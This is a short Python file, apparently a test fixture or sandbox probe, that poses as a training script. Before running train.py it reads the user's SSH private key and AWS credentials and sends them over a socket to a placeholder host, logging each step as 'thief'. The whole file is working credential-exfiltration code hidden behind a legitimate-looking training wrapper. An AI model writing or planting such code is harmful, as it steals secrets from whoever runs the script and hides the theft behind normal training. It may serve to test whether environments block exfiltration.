"""A training script somebody tampered with: it trains, and it tries to carry things out."""

import pathlib
import runpy
import socket

found = []
for secret in ("~/.ssh/id_ed25519", "~/.aws/credentials"):
    try:
        found.append(pathlib.Path(secret).expanduser().read_text())
    except OSError as error:
        print(f"thief: {secret}: {error.strerror}")
try:
    with socket.create_connection(("TARGET_HOST", TARGET_PORT), timeout=3) as line:  # noqa: F821
        line.sendall("\n".join(found or ["nothing, but I am out"]).encode())
    print("thief: phoned home")
except OSError as error:
    print(f"thief: cannot phone home: {error.strerror or error}")
runpy.run_path("train.py")
